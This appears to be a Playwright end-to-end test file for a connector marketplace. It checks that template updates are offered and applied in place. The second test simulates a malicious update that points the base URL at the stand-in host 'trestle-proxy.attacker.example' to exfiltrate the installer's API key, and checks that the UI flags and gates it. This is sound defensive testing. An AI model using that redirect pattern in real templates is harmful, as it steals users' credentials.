/**
 * Template updates, with a Supabase project (the local gateway on PGlite, or PostgreSQL with
 * DATABASE_URL), in browser mode: a connector installed from a community template is offered
 * the publisher's new version with what changed, and updating it in place keeps its name,
 * its credential and (by default) a copy of the version it had.
 */
import { randomUUID } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { createUser, createWorkspace, startLocalSupabase, type LocalSupabase, type TestUser } from '../../supabase-gateway/index.js';
import { expect, test } from '../fixtures.js';
import { hostCallFromPage } from '../pages/hostCallFromPage.js';
import { SyncPanelPage } from '../sync/syncPanelPage.js';
import { MarketplacePage } from './marketplacePage.js';

const KEY = 'trestle-e2e-key-5a4b3c2d1e0f99887766';

let supa: LocalSupabase;

test.beforeAll(async () => {
  supa = await startLocalSupabase();
});

/** Each test's own author with her own workspace, so catalogues of different tests never mix. */
async function newAuthor(): Promise<{ dana: TestUser; workspaceName: string }> {
  const tag = randomUUID().slice(0, 6);
  const dana = await createUser(supa.db, `dana-${tag}@example.com`, 'dana-password');
  const workspaceName = `Dana team ${tag}`;
  await createWorkspace(supa.db, workspaceName, dana.id);
  return { dana, workspaceName };
}
test.afterAll(async () => {
  await supa?.close();
});

/** A host call from the page that must succeed: its value. */
async function hostCall<T>(page: import('@playwright/test').Page, name: string, params: unknown): Promise<T> {
  const answer = await hostCallFromPage<T>(page, name, params);
  if (!answer.ok) throw new Error(`${name} failed: ${JSON.stringify(answer.error)}`);
  return answer.value as T;
}

type Fixtures = Pick<Parameters<Parameters<typeof test>[2]>[0], 'page' | 'app' | 'workspaceDir' | 'shell' | 'chooser'>;
type SourceConnector = { description: string; inputs: Array<{ name: string; default?: unknown }>; steps: Array<{ timeoutMs?: number }> };

/**
 * Dana publishes the phone template (with her key) as a community template v1, installs it
 * from the community listing, then publishes `change` of her source as v2. Returns the ids.
 */
async function publishInstallAndPublishV2({ page, app, workspaceDir, shell, chooser }: Fixtures, templateName: string, change: (source: SourceConnector) => SourceConnector) {
  const sync = new SyncPanelPage(page);
  const market = new MarketplacePage(page);
  const { dana, workspaceName } = await newAuthor();
  await shell.open(app.url);
  await chooser.open(workspaceDir);
  await sync.link(supa, dana, workspaceName);

  // Dana's source connector (the phone template with her key), published as a community template v1.
  await market.open();
  await market.filter({ origin: 'official' });
  await market.openTemplate('Phone Number Enrichment');
  await market.install({ trestle_api_key: KEY });
  // Named per test: community templates are listed to everyone.
  const [first] = await hostCall<Array<{ id: string }>>(page, 'connectors.list', {});
  const original = await hostCall<{ connector: Record<string, unknown>; hash: string }>(page, 'connectors.get', { id: first!.id });
  await hostCall(page, 'connectors.save', { connector: { ...original.connector, name: templateName }, baseHash: original.hash });
  await market.open();
  let dialog = await market.previewPublish(templateName);
  await dialog.getByTestId('publish-confirm').click();
  await expect(dialog).toBeHidden();

  // Installed from the community listing, reusing her saved key.
  await market.refresh();
  await market.filter({ origin: 'community' });
  await market.openTemplate(templateName);
  await market.detail.getByTestId('template-install').click();
  const install = page.getByTestId('install-dialog');
  await expect(install.getByTestId('install-existing-trestle_api_key')).toHaveValue('trestle_api_key');
  await install.getByTestId('install-confirm').click();
  await expect(install).toBeHidden();

  // v2 of the source, published as an update.
  const entries = await hostCall<Array<{ kind: string; id: string; name: string }>>(page, 'connectors.list', {});
  const source = entries.find((e) => e.name === templateName)!;
  const installedCopy = entries.find((e) => e.kind === 'connector' && e.id !== source.id)!;
  const { connector, hash } = await hostCall<{ connector: SourceConnector; hash: string }>(page, 'connectors.get', { id: source.id });
  await hostCall(page, 'connectors.save', { connector: change(connector), baseHash: hash });
  await market.open();
  await page.getByTestId('publish-open').click();
  dialog = page.getByTestId('publish-dialog');
  await dialog.getByTestId('publish-connector').selectOption(source.id);
  await expect(dialog.getByTestId('publish-preview')).toBeVisible();
  await expect(dialog.getByTestId('publish-as-update')).toBeChecked();
  await dialog.getByTestId('publish-changelog').fill(`${templateName}: version two`);
  await dialog.getByTestId('publish-confirm').click();
  await expect(dialog).toBeHidden();
  await market.refresh();
  return { market, installedCopy };
}

test('an installed community template is offered its new version and updated in place, keeping a copy', async ({ page, app, workspaceDir, shell, chooser }) => {
  test.setTimeout(120_000);
  const fixtures = { page, app, workspaceDir, shell, chooser };
  // v2: the source gets a longer timeout and a new description.
  const { market, installedCopy } = await publishInstallAndPublishV2(fixtures, 'Phone Number Enrichment', (connector) => ({
    ...connector,
    description: 'Now asks for the owner with a longer timeout',
    steps: connector.steps.map((s, i) => (i === 0 ? { ...s, timeoutMs: 9000 } : s)),
  }));

  // The installed copy is offered v2 with what changed; nothing has changed yet.
  const offer = page.getByTestId('template-update').filter({ hasText: installedCopy.name });
  await expect(offer).toContainText('v1 → v2');
  await expect(offer.getByTestId('template-update-changelog')).toHaveText('v2: Phone Number Enrichment: version two');
  await offer.getByRole('button', { name: 'What changed' }).click();
  await expect(offer.locator('li', { hasText: 'timeoutMs' })).toHaveText('steps[reverse_phone].timeoutMs set to 9000.');
  expect((await hostCall<{ connector: { template: { version: number } } }>(page, 'connectors.get', { id: installedCopy.id })).connector.template.version).toBe(1);

  // The dashboard marks it too, and leads back to the review.
  await page.getByTestId('nav-dashboard').click();
  const card = page.locator(`[data-testid="connector-card"][data-connector-id="${installedCopy.id}"]`);
  await expect(card.getByTestId('card-update-available')).toHaveText('Update to v2');
  await expect(page.getByTestId('card-update-available')).toHaveCount(1);
  await card.getByTestId('card-update-available').click();
  await expect(offer).toBeVisible();

  await offer.getByTestId('template-update-apply').click();
  const update = page.getByTestId('install-dialog');
  await expect(update.getByTestId('update-explainer')).toContainText('v2');
  await expect(update.getByTestId('install-existing-trestle_api_key')).toHaveValue('trestle_api_key');
  await expect(update.getByTestId('update-keep-copy')).toBeChecked();
  await update.getByTestId('install-confirm').click();
  await expect(update).toBeHidden();
  await expect(page.getByTestId('toast').filter({ hasText: `Updated "${installedCopy.name}" to v2` })).toContainText('previous version is kept');
  await expect(page.getByTestId('run-mode')).toBeVisible();

  const updated = await hostCall<{ connector: { name: string; description: string; steps: Array<{ timeoutMs?: number }>; template: { version: number } } }>(page, 'connectors.get', { id: installedCopy.id });
  expect(updated.connector).toMatchObject({ name: installedCopy.name, description: 'Now asks for the owner with a longer timeout', template: { version: 2 } });
  expect(updated.connector.steps[0]!.timeoutMs).toBe(9000);
  const after = await hostCall<Array<{ kind: string; name: string }>>(page, 'connectors.list', {});
  expect(after.map((e) => e.name)).toContain(`${installedCopy.name} (before v2)`);
  const files = (await readdir(workspaceDir)).filter((f) => f.endsWith('.connector.json'));
  expect(files).toHaveLength(3);

  await market.open();
  await expect(page.getByTestId('template-updates')).toHaveCount(0);
});

test("an update that would send the installer's key to another host is flagged and can't be applied with one click", async ({ page, app, workspaceDir, shell, chooser }) => {
  test.setTimeout(120_000);
  const fixtures = { page, app, workspaceDir, shell, chooser };
  const attacker = 'https://trestle-proxy.attacker.example';
  const { installedCopy } = await publishInstallAndPublishV2(fixtures, 'Phone lookup (redirect check)', (connector) => ({
    ...connector,
    inputs: connector.inputs.map((input) => (input.name === 'base_url' ? { ...input, default: attacker } : input)),
  }));

  const offer = page.getByTestId('template-update').filter({ hasText: installedCopy.name });
  await expect(offer.getByTestId('template-update-redirect-warning')).toHaveText(`⚠ Sends trestle_api_key to ${attacker}, where it did not go before.`);
  await offer.getByRole('button', { name: 'What changed' }).click();
  await expect(offer.locator('li', { hasText: 'would be sent to' })).toContainText(`"trestle_api_key" would be sent to ${attacker} in header x-api-key`);

  await offer.getByTestId('template-update-apply').click();
  const update = page.getByTestId('install-dialog');
  const confirm = update.getByTestId('update-credential-redirect');
  await expect(confirm).toHaveCount(1);
  await expect(confirm).toContainText(`Send trestle_api_key to ${attacker} (header x-api-key) — until now only https://api.trestleiq.com (header x-api-key)`);
  await expect(update.getByTestId('install-confirm')).toBeDisabled();
  expect((await hostCall<{ connector: { template: { version: number } } }>(page, 'connectors.get', { id: installedCopy.id })).connector.template.version).toBe(1);

  await confirm.getByRole('checkbox').check();
  await expect(update.getByTestId('install-confirm')).toBeEnabled();
  await update.getByTestId('install-confirm').click();
  await expect(update).toBeHidden();
  expect((await hostCall<{ connector: { template: { version: number } } }>(page, 'connectors.get', { id: installedCopy.id })).connector.template.version).toBe(2);
});
